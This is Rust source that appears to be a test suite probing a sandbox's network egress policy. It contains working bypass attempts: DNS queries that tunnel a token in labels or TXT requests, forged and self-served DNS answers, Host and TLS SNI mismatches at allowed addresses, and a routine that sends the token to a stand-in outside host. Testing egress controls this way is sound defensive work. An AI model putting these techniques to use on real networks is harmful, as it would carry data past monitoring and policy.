//! Ways to ask for a name that may not be asked for, to carry something out in a question, and to reach under one name
//! what may not be reached.

use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::time::Duration;

use super::sockets::{Address, message, part, send_to};
use super::{Deed, Harm, if_there};
use crate::Failure;
use crate::kernel::{checked, owned, syscall};
use crate::nameserver::{FOREIGN, NAMED, RESOLVER, RESOLVER6, UNUSED, answer};
use crate::stage::Stage;

/// Where what is sent to an address without a name arrives.
const ABROAD: &str = "203.0.113.7:8000";
/// How long an answer is waited for. One that was refused never comes.
const PATIENCE: Duration = Duration::from_secs(2);

const A: u16 = 1;
const TXT: u16 = 16;

pub(super) const DEEDS: &[Deed] = &[
    asked("resolve", &["6.8"], "a name that may not be asked for", |stage| {
        datagram(RESOLVER, &denied(stage))
    }),
    asked("resolve6", &["6.8"], "the same, IPv6", |stage| datagram(RESOLVER6, &denied(stage))),
    asked("resolve-connected", &["6.8"], "the same, from a connected socket", |stage| {
        let socket = UdpSocket::bind("127.0.0.1:0")?;
        socket.connect(RESOLVER)?;
        socket.send(&denied(stage))?;
        wait_for_datagram(&socket)
    }),
    asked("resolve-case", &["6.8"], "the same name, in capitals", |stage| {
        datagram(RESOLVER, &query(&format!("{}.DeNiEd.ExAmPlE", stage.token), A))
    }),
    asked("resolve-extension", &["6.8"], "IPv6, with destination options before the datagram", with_options)
        .unless("a kernel without IPv6"),
    asked(
        "resolve-sendmmsg",
        &["6.5", "2.11 sendmmsg"],
        "queries by sendmmsg, the first harmless",
        two_at_once,
    ),
    asked("resolve-tcp", &["2.11 dns-tcp"], "the same by TCP", |stage| segments(&[framed(&denied(stage))])),
    asked(
        "resolve-pipelined",
        &["2.11 pipelining"],
        "two queries in one segment, the first harmless",
        |stage| segments(&[[framed(&harmless()), framed(&denied(stage))].concat()]),
    ),
    asked("resolve-split", &["2.11 pipelining"], "a query in two segments", |stage| {
        let whole = framed(&denied(stage));
        let (one, other) = whole.split_at(20);
        segments(&[one.to_vec(), other.to_vec()])
    }),
    asked(
        "resolve-split-second",
        &["2.11 pipelining"],
        "a harmless query, and the begin of another",
        |stage| {
            let both = [framed(&harmless()), framed(&denied(stage))].concat();
            let (one, other) = both.split_at(both.len() - 10);
            segments(&[one.to_vec(), other.to_vec()])
        },
    ),
    asked(
        "resolve-fast-open",
        &["6.4", "2.11 dns-tcp"],
        "a query in the first packet of a connection",
        fast_open,
    )
    .unless("a kernel without TCP fast open"),
    asked("resolve-odd", &["6.9"], "data in a question for text", |stage| {
        datagram(RESOLVER, &query(&format!("{}.example.org", stage.token), TXT))
    }),
    asked("resolve-long", &["6.9"], "data in a long label", |stage| {
        datagram(RESOLVER, &query(&format!("{:a<60}.example.org", stage.token), A))
    }),
    asked("resolve-opaque", &["6.9"], "something else at a resolver's port", |stage| {
        datagram(RESOLVER, stage.token.as_bytes())
    }),
    asked("resolve-behind", &["6.9"], "data behind a harmless query", |stage| {
        datagram(RESOLVER, &[harmless(), stage.token.clone().into_bytes()].concat())
    }),
    Deed::new(
        "resolve-foreign",
        &["6.8", "2.11 doh"],
        "a name that may be asked for, at somebody else's resolver",
        Harm::Contact("foreign-resolver"),
        |stage| datagram(FOREIGN, &query(&format!("{}.allowed.example", stage.token), A)),
    ),
    Deed::new(
        "resolve-foreign-tcp",
        &["6.8", "2.11 dns-tcp"],
        "the same by TCP",
        Harm::Contact("foreign-resolver"),
        |stage| {
            let name = format!("{}.allowed.example", stage.token);
            exchange(TcpStream::connect(FOREIGN)?, &[framed(&query(&name, A))])
        },
    ),
    Deed::new(
        "answer-oneself",
        &["6.8"],
        "an answer of one's own for an address without a name",
        Harm::Contact("abroad"),
        answer_oneself,
    ),
    Deed::new(
        "answer-oneself-tcp",
        &["6.8"],
        "the same by TCP",
        Harm::Contact("abroad"),
        answer_oneself_by_tcp,
    ),
    Deed::new(
        "answer-forged",
        &["6.8"],
        "an answer that nobody asked for, at a socket that asked something else",
        Harm::Contact("abroad"),
        answer_unasked,
    ),
    shared(
        "shared-http",
        DENIED,
        "a host that may not be reached, at the address of one that may",
        |stage| say(&[format!("GET /{} HTTP/1.1\r\nHost: denied.example\r\n\r\n", stage.token).into_bytes()]),
    ),
    shared("shared-http-split", MISMATCH, "the same, in two segments", |stage| {
        let request = format!("GET /{} HTTP/1.1\r\nHost: denied.example\r\n\r\n", stage.token);
        let (one, other) = request.as_bytes().split_at(3);
        say(&[one.to_vec(), other.to_vec()])
    }),
    shared("shared-tls", DENIED, "the same by TLS", |stage| {
        say(&[client_hello("denied.example", &stage.token)])
    }),
    shared("shared-other", MISMATCH, "a host that the address was not answered for", |stage| {
        say(&[client_hello("elsewhere.example", &stage.token)])
    }),
];

/// A deed that is done when the resolver has been asked.
const fn asked(
    name: &'static str,
    rows: &'static [&'static str],
    technique: &'static str,
    act: fn(&Stage) -> Result<(), Failure>,
) -> Deed {
    Deed::new(name, rows, technique, Harm::Contact("resolver"), act)
}

/// A deed that is done when something was said at an address whose name may be reached. Only a rule about what was said
/// counts: if the address had no name, another rule would refuse the connection.
const fn shared(
    name: &'static str,
    rule: &'static str,
    technique: &'static str,
    act: fn(&Stage) -> Result<(), Failure>,
) -> Deed {
    Deed::new(name, &["2.11 shared-address"], technique, Harm::Said("named"), act).by(rule)
}

/// The suite's own rule about names.
const DENIED: &str = "DEED-NAME-001";
/// The rule about a name that is none of the address's.
const MISMATCH: &str = "PW-NET-024";

/// A query (RFC 1035, 4.1).
fn query(name: &str, kind: u16) -> Vec<u8> {
    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(label.len() as u8);
        message.extend_from_slice(label.as_bytes());
    }
    message.push(0);
    message.extend_from_slice(&kind.to_be_bytes());
    message.extend_from_slice(&[0, 1]);
    message
}

fn denied(stage: &Stage) -> Vec<u8> {
    query(&format!("{}.denied.example", stage.token), A)
}

fn harmless() -> Vec<u8> {
    query("host.allowed.example", A)
}

/// A message behind its length, as TCP carries it.
fn framed(message: &[u8]) -> Vec<u8> {
    [&(message.len() as u16).to_be_bytes(), message].concat()
}

fn datagram(server: &str, message: &[u8]) -> Result<(), Failure> {
    let server: SocketAddr = server.parse()?;
    let any: IpAddr = if server.is_ipv4() { [0; 4].into() } else { [0_u16; 8].into() };
    let socket = UdpSocket::bind((any, 0))?;
    socket.send_to(message, server)?;
    wait_for_datagram(&socket)
}

/// Waits until the other side has what was sent: it answers then.
fn wait_for_datagram(socket: &UdpSocket) -> Result<(), Failure> {
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.recv(&mut [0; 512])?;
    Ok(())
}

fn segments(parts: &[Vec<u8>]) -> Result<(), Failure> {
    exchange(TcpStream::connect(RESOLVER)?, parts)
}

/// Sends parts, each by itself, and waits for an answer to the last one.
fn exchange(mut stream: TcpStream, parts: &[Vec<u8>]) -> Result<(), Failure> {
    stream.set_nodelay(true)?;
    for part in parts {
        stream.write_all(part)?;
    }
    stream.set_read_timeout(Some(PATIENCE))?;
    // The server answers when it has read everything, or hangs up.
    stream.shutdown(std::net::Shutdown::Write)?;
    let mut answers = Vec::new();
    stream.read_to_end(&mut answers)?;
    Ok(())
}

fn two_at_once(stage: &Stage) -> Result<(), Failure> {
    let socket = UdpSocket::bind("127.0.0.1:0")?;
    let to = Address::of(RESOLVER)?;
    let (harmless, denied) = (harmless(), denied(stage));
    let (mut one, mut other) = (part(&harmless), part(&denied));
    let mut messages = [
        libc::mmsghdr { msg_hdr: message(&to, &mut one), msg_len: 0 },
        libc::mmsghdr { msg_hdr: message(&to, &mut other), msg_len: 0 },
    ];
    let (fd, pointer) = (socket.as_raw_fd(), messages.as_mut_ptr());
    // SAFETY: two messages, as the length says; their parts and addresses live.
    let sent = unsafe { syscall!(libc::SYS_sendmmsg, fd, pointer, messages.len(), 0) }?;
    if sent != 2 {
        return Err(format!("{sent} of 2 queries were sent").into());
    }
    wait_for_datagram(&socket)?;
    wait_for_datagram(&socket)
}

/// A header of options between that of IPv6 and the datagram (RFC 8200, 4.6).
fn with_options(stage: &Stage) -> Result<(), Failure> {
    let socket = UdpSocket::bind("[::1]:0")?;
    // Eight octets: next header, no more octets, an option that fills four.
    let options = [0_u8, 0, 1, 4, 0, 0, 0, 0];
    let (level, option, length) = (libc::IPPROTO_IPV6, libc::IPV6_DSTOPTS, options.len() as u32);
    // SAFETY: the option's value lives and has the length given.
    let set = unsafe { libc::setsockopt(socket.as_raw_fd(), level, option, options.as_ptr().cast(), length) };
    checked(set)?;
    socket.send_to(&denied(stage), RESOLVER6)?;
    wait_for_datagram(&socket)
}

fn fast_open(stage: &Stage) -> Result<(), Failure> {
    // SAFETY: the call takes no pointers.
    let socket =
        owned(checked(unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0) })?)?;
    let to = Address::of(RESOLVER)?;
    if_there("MSG_FASTOPEN", send_to(&socket, &framed(&denied(stage)), libc::MSG_FASTOPEN, &to))?;
    exchange(TcpStream::from(socket), &[])
}

/// Sends the token to an address that no resolver of the machine has given a name.
fn call_abroad(stage: &Stage) -> Result<(), Failure> {
    Ok(TcpStream::connect(ABROAD)?.write_all(stage.token.as_bytes())?)
}

/// Runs a resolver at an address of the machine's configuration at which nobody listens, and asks it.
fn answer_oneself(stage: &Stage) -> Result<(), Failure> {
    let server = UdpSocket::bind(UNUSED)?;
    let client = UdpSocket::bind("127.0.0.1:0")?;
    client.send_to(&query("own.allowed.example", A), UNUSED)?;
    let mut buffer = [0; 512];
    server.set_read_timeout(Some(PATIENCE))?;
    let (length, from) = server.recv_from(&mut buffer)?;
    // Refused where it leaves, perhaps; the connection is tried all the same.
    let _ = server.send_to(&answer(&buffer[..length], &ABROAD.parse()?), from);
    let _ = wait_for_datagram(&client);
    call_abroad(stage)
}

fn answer_oneself_by_tcp(stage: &Stage) -> Result<(), Failure> {
    let server = TcpListener::bind(UNUSED)?;
    let mut client = TcpStream::connect(UNUSED)?;
    let (mut served, _) = server.accept()?;
    let asked = query("own.allowed.example", A);
    client.write_all(&framed(&asked))?;
    served.write_all(&framed(&answer(&asked, &ABROAD.parse()?)))?;
    client.set_read_timeout(Some(PATIENCE))?;
    // As above.
    let _ = client.read(&mut [0; 512]);
    call_abroad(stage)
}

/// Asks the machine's resolver for one name, and sends the socket that asked an answer about another, from its port.
fn answer_unasked(stage: &Stage) -> Result<(), Failure> {
    let server = UdpSocket::bind(UNUSED)?;
    let client = UdpSocket::bind("127.0.0.1:0")?;
    client.send_to(&harmless(), RESOLVER)?;
    wait_for_datagram(&client)?;
    let forged = answer(&query("own.allowed.example", A), &ABROAD.parse()?);
    let _ = server.send_to(&forged, client.local_addr()?);
    let again = answer(&harmless(), &ABROAD.parse()?);
    let _ = server.send_to(&again, client.local_addr()?);
    let _ = wait_for_datagram(&client);
    call_abroad(stage)
}

/// Asks for a host that may be reached, connects to its address, and says something there.
fn say(parts: &[Vec<u8>]) -> Result<(), Failure> {
    datagram(RESOLVER, &harmless())?;
    let mut stream = TcpStream::connect(NAMED)?;
    stream.set_nodelay(true)?;
    for part in parts {
        stream.write_all(part)?;
    }
    // On loopback what leaves has arrived.
    Ok(())
}

/// A ClientHello with a server name (RFC 8446, 4.1.2; RFC 6066, 3); the random is the token.
fn client_hello(name: &str, token: &str) -> Vec<u8> {
    let vector = |width: usize, content: &[u8]| -> Vec<u8> {
        [&(content.len() as u64).to_be_bytes()[8 - width..], content].concat()
    };
    let server_name = vector(2, &[vec![0], vector(2, name.as_bytes())].concat());
    let extensions = [vec![0, 0], vector(2, &server_name)].concat();
    let mut body = vec![3, 3];
    body.extend_from_slice(&[7; 32]);
    body.extend(vector(1, token.as_bytes()));
    body.extend(vector(2, &[0x13, 1]));
    body.extend(vector(1, &[0]));
    body.extend(vector(2, &extensions));
    let handshake = [vec![1], vector(3, &body)].concat();
    [vec![22, 3, 1], vector(2, &handshake)].concat()
}
